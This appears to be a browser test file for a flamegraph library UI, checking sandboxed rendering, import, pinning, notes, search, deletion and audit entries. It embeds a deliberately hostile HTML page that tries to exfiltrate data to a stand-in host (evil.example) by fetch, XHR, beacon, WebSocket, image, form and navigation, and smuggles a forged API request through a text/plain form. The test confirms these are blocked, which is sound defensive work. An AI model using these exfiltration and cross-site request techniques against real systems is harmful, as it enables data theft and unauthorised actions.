// library.test.mjs - the ad hoc library in a real headless Chromium
// against the real stack (run.sh: lighttpd with HTTP basic auth +
// ember-fcgi + ember-workers + PostgreSQL), logged in as EMBER_TEST_USER.
//
//  - an agent's own flamegraph page (tests/data/library/agent_flamegraph.html,
//    uploaded through /api/v2/profiles for a profile_request's command)
//    renders, zooms and searches in the sandboxed frame with every
//    non-loopback request aborted, from the files under /vendor/agent/;
//    reached from the request on the status page (lineage);
//  - a hostile page's ways out (navigation of the top window and of its
//    own frame, fetch/XHR/img/beacon/WebSocket/frames/forms, to another
//    site and to the API with credentials) are all blocked;
//  - the library panel: Import… by file input and by drag and drop (with
//    its progress bar), pin/unpin, title and note, q= search, delete with
//    confirmation, and the audit panel on the status page.
//
// `node library.test.mjs --list` prints the test names.

import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import assert from 'node:assert/strict';
import { ART, BASE, USER, browser, heartbeat, operatorAuth, page, post, psql, runTap, sleep,
	upload, waitFor } from './stack.mjs';

const HERE = path.dirname(fileURLToPath(import.meta.url));
const DATA = path.join(HERE, '..', 'data', 'library');
const AGENT_HTML = fs.readFileSync(path.join(DATA, 'agent_flamegraph.html'), 'utf8');
const SVC = 'library';
const ACTOR = USER ? USER.split(':')[0] : 'anonymous';
const LIB1 = { service: SVC, host: 'lib-1', ip: '10.9.0.1' };
const LIB2 = { service: SVC, host: 'lib-2', ip: '10.9.0.2' };
const EVIL = 'http://evil.example';
// The files the agent's page loads (its IE-only two stay in a comment).
const VENDOR = ['bootstrap-3.3.7.min.css', 'd3-flamegraph-2.0.6.css', 'd3-4.13.0.min.js',
	'd3-tip-0.9.1.js', 'd3-flamegraph-2.0.6.min.js'];

// The hostile page: every way out it can think of, each outcome recorded
// (with the CSP violations it saw) in #probe and posted to the parent; on
// the parent's word it submits a form (to the API, to another site) or
// tries to take its own frame to another site.
const HOSTILE = `<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>hostile</title>
<link rel="stylesheet" href="${EVIL}/style.css">
<link rel="prefetch" href="${EVIL}/prefetch">
</head><body>
<h1 id="marker">HOSTILE</h1><pre id="probe">pending</pre>
<div style="width:10px;height:10px;background:url(${EVIL}/bg.png)"></div>
<form id="out" method="POST" action="${EVIL}/steal"><input name="x" value="1"></form>
<form id="api" method="POST" action="/api/metrics/profile_request" enctype="text/plain">
<input name='{"service_name":"hostile-form","request_type":"start","continuous":false,"duration":60,"frequency":11,"profiling_mode":"cpu","target_hosts":{"lib-2":null},"x":"' value='"}'></form>
<script>
(async function () {
	var r = { violations: [] };
	document.addEventListener('securitypolicyviolation', function (e) {
		r.violations.push(e.effectiveDirective + ' ' + e.blockedURI);
	});
	async function f(name, url, opts) {
		try { var a = await fetch(url, opts); r[name] = 'LEAK:' + a.status; }
		catch (e) { r[name] = 'blocked:' + e.name; }
	}
	function x(name, url, cred) {
		return new Promise(function (done) {
			try {
				var q = new XMLHttpRequest();
				q.open('GET', url);
				q.withCredentials = cred;
				q.onload = function () { r[name] = 'LEAK:' + q.status; done(); };
				q.onerror = function () { r[name] = 'blocked:error'; done(); };
				q.send();
			} catch (e) { r[name] = 'blocked:' + e.name; done(); }
		});
	}
	function img(name, url) {
		return new Promise(function (done) {
			var i = new Image();
			i.onload = function () { r[name] = 'LEAK:loaded'; done(); };
			i.onerror = function () { r[name] = 'blocked:error'; done(); };
			i.src = url;
		});
	}
	function t(name, fn) {
		try { r[name] = 'LEAK:' + String(fn()).slice(0, 100); } catch (e) { r[name] = 'blocked:' + e.name; }
	}
	await f('fetch_other', '${EVIL}/fetch?d=' + encodeURIComponent(location.href), { mode: 'no-cors' });
	await f('fetch_api', '/api/services', { credentials: 'include' });
	await f('fetch_api_post', '/api/metrics/profile_request', { method: 'POST', credentials: 'include',
		headers: { 'Content-Type': 'text/plain' }, body: '{"service_name":"hostile-fetch"}' });
	await x('xhr_other', '${EVIL}/xhr', false);
	await x('xhr_api', '/api/audit', true);
	await img('img_other', '${EVIL}/pixel.png');
	await img('img_api', '/api/services');
	t('beacon_other', function () { if (!navigator.sendBeacon('${EVIL}/beacon', 'x')) throw { name: 'refused' }; return 'queued'; });
	t('beacon_api', function () { if (!navigator.sendBeacon('/api/metrics/profile_request', 'x')) throw { name: 'refused' }; return 'queued'; });
	t('websocket', function () { return new WebSocket('ws://evil.example/ws').url; });
	t('popup', function () { var w = window.open('${EVIL}/popup'); if (!w) throw { name: 'PopupBlocked' }; return 'opened'; });
	t('subframe', function () {
		var fr = document.createElement('iframe');
		fr.src = '${EVIL}/frame';
		document.body.appendChild(fr);
		return 'added';
	});
	t('top_navigation', function () { top.location.href = '${EVIL}/top'; return 'navigated'; });
	await new Promise(function (ok) { setTimeout(ok, 700); });
	r.done = true;
	window.__r = r;
	document.getElementById('probe').textContent = JSON.stringify(r);
	parent.postMessage({ probe: r }, '*');
	// Last, as they may replace this page: on the parent's word.
	window.addEventListener('message', function (e) {
		if (e.data === 'form-api')
			document.getElementById('api').submit();
		else if (e.data === 'form-out')
			document.getElementById('out').submit();
		else if (e.data === 'navigate')
			location.href = '${EVIL}/self';
	});
})();
</script></body></html>`;

const S = {};		// state shared between tests
let ctx;

// net: what the context asked for.  Every request that would leave
// loopback is aborted and recorded in net.left.
const net = { left: [], vendor: [], failed: [], sockets: [] };
const loopback = (u) => ['127.0.0.1', 'localhost', '[::1]'].includes(new URL(u).hostname);

async function stack() {
	ctx = await browser();
	await ctx.route('**/*', (route) => {
		const u = route.request().url();
		if (loopback(u))
			return route.continue();
		net.left.push(u);
		return route.abort('blockedbyclient');
	});
	ctx.on('response', (r) => {
		if (new URL(r.url()).pathname.startsWith('/vendor/agent/'))
			net.vendor.push({ file: path.basename(new URL(r.url()).pathname), status: r.status(),
				type: r.headers()['content-type'] || '' });
	});
	ctx.on('requestfailed', (r) => net.failed.push(`${r.url()} ${r.failure()?.errorText}`));
	const p = S.p = await page(ctx);
	p.on('websocket', (w) => net.sockets.push(w.url()));
	p.console = [];
	p.on('console', (m) => p.console.push(m.text()));
	return p;
}

async function frameOf(p, sel) {
	const el = await p.waitForSelector('#frame-box iframe');
	const fr = await el.contentFrame();
	await fr.waitForSelector(sel);
	return { el, fr };
}

// The library panel's rows: file, the cells' text, the pin button.
async function libRows(p) {
	return p.$$eval('#library-panel tbody tr', (trs) => trs.map((tr) => ({
		file: tr.dataset.file, text: tr.textContent, cells: [...tr.cells].map((c) => c.textContent),
		pinned: tr.querySelector('button[aria-pressed]')?.getAttribute('aria-pressed'),
	})));
}

async function libRow(p, file) {
	return (await libRows(p)).find((r) => r.file === file);
}

// answerDialogs(p, answers): the next native dialogs get these answers
// in order (false dismisses, true accepts); resolves to what they said.
function answerDialogs(p, answers) {
	const seen = [];
	return new Promise((resolve) => {
		const on = async (d) => {
			const a = answers[seen.length];
			seen.push({ type: d.type(), message: d.message() });
			if (seen.length === answers.length)
				p.off('dialog', on);
			if (a === false)
				await d.dismiss();
			else
				await d.accept(a === true ? undefined : a);
			if (seen.length === answers.length)
				resolve(seen);
		};
		p.on('dialog', on);
	});
}
const answerDialog = (p, answer) => answerDialogs(p, [answer]).then((s) => s[0]);

const TESTS = [
	['seed: a profile_request by the operator, its command, the agent page uploaded for it', async () => {
		for (const h of [LIB1, LIB2])
			assert.equal((await heartbeat(h)).status, 200);
		const pr = await post('/api/metrics/profile_request', JSON.stringify({
			service_name: SVC, request_type: 'start', continuous: false, duration: 60, frequency: 11,
			profiling_mode: 'cpu', target_hosts: { [LIB1.host]: null } }), operatorAuth());
		assert.equal(pr.status, 200, pr.text);
		S.requestId = pr.json.profiling_request_id || pr.json.request_id;
		assert.ok(S.requestId, `request id in ${pr.text}`);
		const hb = await heartbeat(LIB1);
		assert.ok(hb.json.command_id, `heartbeat gave a command: ${hb.text}`);
		let r = await upload({ ...LIB1, start: Date.now() - 90e3, html: AGENT_HTML, commandId: hb.json.command_id });
		assert.equal(r.status, 200, r.text);
		r = await upload({ ...LIB2, start: Date.now() - 60e3, html: HOSTILE });
		assert.equal(r.status, 200, r.text);
		await waitFor(() => Number(psql("select count(*) from AdhocFlamegraphMetadata where hostname like 'lib-_'")) === 2,
			'the workers');
		const file = (h) => psql(`select s3_key from AdhocFlamegraphMetadata where hostname = '${h}'`).split('/').pop();
		S.agentFile = file(LIB1.host);
		S.hostileFile = file(LIB2.host);
	}],
	['lineage: the request on the status page links to the flamegraph its command produced', async () => {
		const p = await stack();
		await p.goto(`${BASE}/?service=${SVC}`);
		const li = p.locator('#audit-list li', { hasText: 'profile_request' });
		await li.waitFor();
		assert.match(await li.textContent(), new RegExp(`${ACTOR} profile_request ${SVC} ${S.requestId}`));
		await li.locator('button', { hasText: 'Flamegraphs' }).click();
		const a = li.locator('a');
		await a.waitFor();
		assert.equal(await a.textContent(), S.agentFile);
		const href = new URL(await a.getAttribute('href'), BASE);
		assert.equal(href.pathname, '/adhoc.html');
		assert.equal(href.searchParams.get('file'), S.agentFile);
		await a.click();
		await p.waitForURL(/\/adhoc\.html/);
	}],
	['offline: the agent\'s page draws its flamegraph in the sandboxed frame from /vendor/agent/', async () => {
		const p = S.p;
		const { el, fr } = await frameOf(p, '#chart svg');
		assert.equal(await el.getAttribute('sandbox'), 'allow-scripts allow-forms');
		// d3-flame-graph widens each frame's rect after its transition.
		await fr.waitForFunction(() => {
			const r = document.querySelector('#chart svg g[name="root"] rect');
			return r && Number(r.getAttribute('width')) > 900;
		});
		const names = await fr.$$eval('#chart svg g', (gs) => gs.map((g) => g.getAttribute('name')).sort());
		assert.deepEqual(names, ['compute_checksum', 'hash_block', 'main', 'nginx', 'ngx_epoll_process_events',
			'python3', 'read_input', 'root']);
		// The page's CSS arrived too: bootstrap's .btn and the flamegraph's.
		assert.equal(await fr.$eval('a.btn-primary', (a) => getComputedStyle(a).color), 'rgb(255, 255, 255)',
			'bootstrap.min.css applied');
		assert.equal(await fr.$eval('.d3-flame-graph-label', (d) => getComputedStyle(d).fontFamily), 'Verdana',
			'd3-flamegraph.css applied');
		const got = Object.fromEntries(net.vendor.map((v) => [v.file, v]));
		for (const f of VENDOR) {
			assert.ok(got[f], `${f} requested (got ${Object.keys(got)})`);
			assert.equal(got[f].status, 200, `${f} status`);
			assert.match(got[f].type, f.endsWith('.css') ? /^text\/css/ : /^text\/javascript/, f);
		}
		assert.deepEqual(p.errors, []);
	}],
	['offline: a click zooms in, Search highlights, Reset zoom and Clear undo them', async () => {
		const p = S.p;
		const fr = (await frameOf(p, '#chart svg')).fr;
		const width = (name) => fr.$eval(`#chart svg g[name="${name}"] rect`, (r) => Number(r.getAttribute('width')));
		const fill = (name) => fr.$eval(`#chart svg g[name="${name}"] rect`, (r) => r.getAttribute('fill'));
		const before = await width('compute_checksum');
		assert.ok(before < 600, `compute_checksum is ${before} px before the zoom`);
		await fr.click('#chart svg g[name="compute_checksum"]');
		await fr.waitForFunction(() => Number(document.querySelector(
			'#chart svg g[name="compute_checksum"] rect').getAttribute('width')) > 900);
		await fr.waitForFunction(() => !document.querySelector('#chart svg g[name="nginx"]'));
		assert.ok(p.console.includes('Clicked on compute_checksum'), `console: ${p.console}`);
		await fr.fill('#term', 'hash_');
		await fr.click('a.btn-primary');	// Search (a javascript: link)
		await fr.waitForFunction(() => document.querySelector('#chart svg g[name="hash_block"] rect')
			.getAttribute('fill') === '#E600E6');
		assert.notEqual(await fill('compute_checksum'), '#E600E6');
		await fr.click('a.btn:text("Clear")');
		await fr.waitForFunction(() => document.querySelector('#chart svg g[name="hash_block"] rect')
			.getAttribute('fill') !== '#E600E6');
		await fr.click('a.btn:text("Reset zoom")');
		await fr.waitForFunction(() => document.querySelector('#chart svg g[name="nginx"] rect'));
		// Enter in the search box submits the page's form, which searches.
		await fr.fill('#term', 'read_');
		await fr.press('#term', 'Enter');
		await fr.waitForFunction(() => document.querySelector('#chart svg g[name="read_input"] rect')
			.getAttribute('fill') === '#E600E6', null, { timeout: 3000 });
		assert.equal(new URL(fr.url()).pathname, '/api/metrics/adhoc_flamegraph_content', 'the frame stayed');
		assert.deepEqual(p.errors, []);
		await p.screenshot({ path: path.join(ART, 'library-offline.png') });
	}],
	['offline: no request left loopback and none failed', async () => {
		assert.deepEqual(net.left, [], 'requests aborted on their way out');
		assert.deepEqual(net.sockets, []);
		// bootstrap.css names its glyph fonts (../fonts/, not shipped): the
		// page's policy refuses them before they are asked for; no glyph
		// is used.  The frame's first load may be replaced by its second.
		assert.deepEqual(net.failed.filter((f) => !/\/vendor\/fonts\/glyphicons-halflings-regular\.\w+ csp$/.test(f) &&
			!/\/adhoc_flamegraph_content\?.* net::ERR_ABORTED$/.test(f)), []);
	}],
	['hostile: fetch, XHR, images, beacons, sockets, frames, popups and top navigation all blocked', async () => {
		const p = S.p;
		const left = net.left.length;
		const requests = Number(psql('select count(*) from ProfilingRequests'));
		// The frames' requests that got an answer, and the ones that were
		// refused before they were sent (DevTools still reports those).
		S.frameReqs = [];
		S.frameRefused = [];
		ctx.on('requestfinished', (r) => {
			if (r.frame() !== p.mainFrame())
				S.frameReqs.push(`${r.method()} ${r.url()}`);
		});
		ctx.on('requestfailed', (r) => {
			if (r.frame() !== p.mainFrame())
				S.frameRefused.push(`${r.failure()?.errorText} ${r.url()}`);
		});
		// The UI page's own view of it: messages and its policy's reports.
		await p.addInitScript(() => {
			if (window !== top)
				return;
			window.__msgs = [];
			window.__viol = [];
			addEventListener('message', (e) => window.__msgs.push(e.data));
			document.addEventListener('securitypolicyviolation',
				(e) => window.__viol.push(`${e.effectiveDirective} ${e.blockedURI}`));
		});
		await p.goto(`${BASE}/adhoc.html?service=${SVC}&file=${encodeURIComponent(S.hostileFile)}`);
		const { el, fr } = await frameOf(p, '#probe');
		S.hostile = el;
		await fr.waitForFunction(() => document.getElementById('probe').textContent !== 'pending');
		const r = JSON.parse(await fr.textContent('#probe'));
		fs.writeFileSync(path.join(ART, 'library-hostile-probe.json'), JSON.stringify(r, null, 2));
		console.log(`# probe: ${JSON.stringify(r)}`);
		// What the script itself can tell (beacons, sockets, frames and
		// forms do not say: their violations below do).
		for (const k of ['fetch_other', 'fetch_api', 'fetch_api_post', 'xhr_other', 'xhr_api', 'img_other',
			'img_api', 'popup', 'top_navigation'])
			assert.match(r[k] || 'missing', /^blocked:/, `${k}: ${r[k]}`);
		// The page's own policy reported each request it refused.
		const want = ['connect-src http://evil.example/fetch', 'connect-src http://evil.example/xhr',
			'connect-src http://evil.example/beacon', 'connect-src ws://evil.example/ws',
			`connect-src ${BASE}/api/services`, `connect-src ${BASE}/api/audit`,
			`connect-src ${BASE}/api/metrics/profile_request`, 'img-src http://evil.example/pixel.png',
			'img-src http://evil.example/bg.png', `img-src ${BASE}/api/services`, 'frame-src http://evil.example',
			'style-src-elem http://evil.example/style.css', 'default-src http://evil.example/prefetch'];
		for (const d of want)
			assert.ok(r.violations.some((v) => v.startsWith(d)), `violation ${d} in ${r.violations}`);
		await waitFor(() => p.evaluate(() => window.__msgs.length), 'the probe\'s message');
		assert.equal(new URL(p.url()).pathname, '/adhoc.html', 'the UI page stays');
		assert.equal(ctx.pages().length, 1, 'no popup');
		assert.deepEqual(net.left.slice(left), [], 'nothing reached the network off loopback');
		assert.deepEqual(S.frameReqs.filter((u) => !u.startsWith(`GET ${BASE}/api/metrics/adhoc_flamegraph_content?`)),
			[], 'the frame asked for nothing but its own page');
		assert.equal(Number(psql('select count(*) from ProfilingRequests')), requests, 'no profile request made');
		assert.ok(S.frameRefused.length >= 5 && S.frameRefused.every((x) => x.startsWith('csp ')),
			`refused before sending: ${S.frameRefused}`);
		S.violations = r.violations.length;
		S.left = left;
	}],
	['hostile: a form to the API is refused (form-action), to another site and a navigation by the UI\'s frame-src', async () => {
		const p = S.p;
		const post = (m) => p.evaluate((w) => document.querySelector('#frame-box iframe').contentWindow.postMessage(w, '*'), m);
		const parentViol = () => p.evaluate(() => window.__viol.filter((v) => v.startsWith('frame-src http://evil.example')).length);
		const csp = await p.evaluate(() => fetch(location.href).then((r) => r.headers.get('content-security-policy')));
		assert.match(csp, /frame-src 'self'/);
		const requests = Number(psql('select count(*) from ProfilingRequests'));
		const docs = S.frameReqs.length;
		// A text/plain form POST to the API, same origin: the page's own
		// form-action 'none' stops it.
		await post('form-api');
		await waitFor(() => S.hostile.contentFrame().then((f) => f.evaluate((b) => window.__r.violations
			.includes(`form-action ${b}/api/metrics/profile_request`), BASE)), 'the form-action report');
		// A form to another site: the UI page's frame-src 'self' refuses the
		// frame's navigation (the frame is left with an error page).
		let n = await parentViol();
		await post('form-out');
		await waitFor(async () => (await parentViol()) > n, 'the page\'s frame-src report (form)');
		// The frame navigating itself: the same.
		await p.reload();
		await (await frameOf(p, '#probe')).fr.waitForFunction(() => window.__r && window.__r.done);
		n = await parentViol();
		await post('navigate');
		await waitFor(async () => (await parentViol()) > n, 'the page\'s frame-src report (navigation)');
		await sleep(300);
		for (const f of p.frames())
			assert.doesNotMatch(f.url(), /evil\.example/);
		assert.deepEqual(net.left.slice(S.left), [], 'nothing reached the network off loopback');
		assert.deepEqual(S.frameReqs.slice(docs).filter((u) => !u.startsWith(`GET ${BASE}/api/metrics/adhoc_flamegraph_content?`)),
			[], 'the frames asked for nothing but their own page');
		assert.equal(Number(psql('select count(*) from ProfilingRequests')), requests, 'no profile request made');
		assert.equal(new URL(p.url()).pathname, '/adhoc.html', 'the UI page stays');
		assert.equal(ctx.pages().length, 1, 'no popup');
		console.log(`# blocked: ${S.violations} requests refused by the page's own policy, popups and top ` +
			'navigation by the sandbox, a form by form-action, a form and a navigation to another site by ' +
			`the UI's frame-src; ${net.left.length} requests left loopback`);
	}],
	['library: Import… by the file input shows the progress bar, then the profile with source=import', async () => {
		const p = S.p;
		await p.goto(`${BASE}/adhoc.html?service=${SVC}`);
		await p.waitForSelector('#library-panel tbody tr');
		// Hold the upload a moment so that the bar can be seen.
		await p.route('**/api/profiles/import*', async (r) => { await sleep(600); await r.continue(); });
		const host = answerDialog(p, 'imported-1');
		await p.setInputFiles('#library-panel input[type=file]', path.join(DATA, 'perf-kernel-inlined.txt'));
		assert.match((await host).message, /Host name for perf-kernel-inlined\.txt/);
		await p.waitForSelector('#import-progress:not([hidden])');
		await p.waitForSelector('#import-progress', { state: 'hidden' });
		await p.unroute('**/api/profiles/import*');
		await p.waitForSelector('#messages .msg.ok');
		assert.match(await p.textContent('#messages .msg.ok'), /Imported perf-kernel-inlined\.txt as perf \(2 stacks\)/);
		S.imp1 = psql("select s3_key from AdhocFlamegraphMetadata where hostname = 'imported-1'").split('/').pop();
		await waitFor(async () => await libRow(p, S.imp1), 'the imported row');
		const row = await libRow(p, S.imp1);
		assert.match(row.text, new RegExp(`imported by ${ACTOR}`));
		assert.equal(row.cells[1], 'imported-1');
		assert.equal(psql(`select source || '|' || importer from AdhocFlamegraphMetadata where hostname = 'imported-1'`),
			`import|${ACTOR}`);
	}],
	['library: a file dropped on the panel is imported too (the agent\'s page, as html)', async () => {
		const p = S.p;
		const dt = await p.evaluateHandle((html) => {
			const d = new DataTransfer();
			d.items.add(new File([html], 'dropped.html', { type: 'text/html' }));
			return d;
		}, AGENT_HTML);
		await p.dispatchEvent('#library-panel', 'dragover', { dataTransfer: dt });
		assert.equal(await p.$eval('#library-panel', (e) => e.classList.contains('drop')), true, 'drop zone shown');
		const host = answerDialog(p, 'dropped-1');
		await p.dispatchEvent('#library-panel', 'drop', { dataTransfer: dt });
		assert.match((await host).message, /dropped\.html/);
		await waitFor(() => p.$$eval('#messages .msg.ok', (m) => m.some((x) => /Imported dropped\.html as html/.test(x.textContent))),
			'the import message');
		S.imp2 = psql("select s3_key from AdhocFlamegraphMetadata where hostname = 'dropped-1'").split('/').pop();
		await waitFor(async () => await libRow(p, S.imp2), 'the dropped row');
		assert.equal(await p.$eval('#library-panel', (e) => e.classList.contains('drop')), false);
	}],
	['library: pin and unpin show in the list and in the database', async () => {
		const p = S.p;
		const btn = `#library-panel tr[data-file="${S.imp1}"] button[aria-pressed]`;
		await p.click(btn);
		await waitFor(async () => (await libRow(p, S.imp1))?.pinned === 'true', 'pinned');
		assert.equal(await p.textContent(btn), 'Unpin');
		assert.equal(psql(`select pinned from AdhocFlamegraphMetadata where hostname = 'imported-1'`), 't');
		await p.click(btn);
		await waitFor(async () => (await libRow(p, S.imp1))?.pinned === 'false', 'unpinned');
		assert.equal(psql(`select pinned from AdhocFlamegraphMetadata where hostname = 'imported-1'`), 'f');
		await p.click(btn);
		await waitFor(async () => (await libRow(p, S.imp1))?.pinned === 'true', 'pinned again');
	}],
	['library: a title and a note show in the list, and q= search finds them', async () => {
		const p = S.p;
		const asked = answerDialogs(p, ['Checkout regression', 'seen after deploy 42']);
		await p.click(`#library-panel tr[data-file="${S.imp1}"] button:text("Note…")`);
		const [title, note] = await asked;
		assert.match(title.message, /Title/);
		assert.match(note.message, /Note/);
		await waitFor(async () => /seen after deploy 42/.test((await libRow(p, S.imp1))?.text || ''), 'the note');
		const row = await libRow(p, S.imp1);
		assert.equal(row.cells[0], 'Checkout regression');
		assert.equal(row.cells[4], 'seen after deploy 42');
		const req = p.waitForRequest((r) => r.url().includes('/adhoc_flamegraphs?') && r.url().includes('q='));
		await p.fill('#library-panel input[type=search]', 'deploy 42');
		await p.press('#library-panel input[type=search]', 'Enter');
		assert.equal(new URL((await req).url()).searchParams.get('q'), 'deploy 42');
		await waitFor(async () => (await libRows(p)).length === 1, 'one match');
		assert.equal((await libRows(p))[0].file, S.imp1);
		await p.fill('#library-panel input[type=search]', 'no such words');
		await p.press('#library-panel input[type=search]', 'Enter');
		await waitFor(async () => (await libRows(p)).length === 0, 'no match');
		await p.fill('#library-panel input[type=search]', '');
		await p.press('#library-panel input[type=search]', 'Enter');
		await waitFor(async () => (await libRows(p)).length === 4, 'all four');
	}],
	['library: delete asks first; cancelled it keeps the row, confirmed the row goes', async () => {
		const p = S.p;
		const del = `#library-panel tr[data-file="${S.imp2}"] button:text("Delete…")`;
		let d = answerDialog(p, false);
		await p.click(del);
		assert.equal((await d).type, 'confirm');
		assert.match((await d).message, new RegExp(`Delete ${S.imp2}`));
		await sleep(300);
		assert.ok(await libRow(p, S.imp2), 'kept after Cancel');
		d = answerDialog(p, true);
		await p.click(del);
		await d;
		await waitFor(async () => !(await libRow(p, S.imp2)), 'the row gone');
		assert.equal(psql(`select count(*) from AdhocFlamegraphMetadata where hostname = 'dropped-1'`), '0');
		assert.deepEqual(p.errors, []);
	}],
	['audit panel on the status page lists each action with its user', async () => {
		const p = S.p;
		await p.goto(`${BASE}/?service=${SVC}`);
		await p.waitForSelector('#audit-list li');
		await waitFor(async () => (await p.$$('#audit-list li')).length >= 8, 'the audit entries');
		const items = await p.$$eval('#audit-list li', (l) => l.map((x) => x.textContent));
		const has = (action, target) => items.some((t) => t.includes(`${ACTOR} ${action} ${SVC} ${target}`));
		assert.ok(has('profile_request', S.requestId), items.join('\n'));
		for (const [action, file] of [['import', S.imp1], ['import', S.imp2], ['pin', S.imp1], ['unpin', S.imp1],
			['note', S.imp1], ['delete', S.imp2]])
			assert.ok(has(action, file), `${action} ${file} in\n${items.join('\n')}`);
		await p.screenshot({ path: path.join(ART, 'library-audit.png') });
	}],
];

const failed = await runTap(TESTS, async (n) => {
	if (S.p && !S.p.isClosed())
		await S.p.screenshot({ path: path.join(ART, `library-fail-${n}.png`) });
});
if (ctx)
	await ctx.close();
process.exit(failed ? 1 : 0);
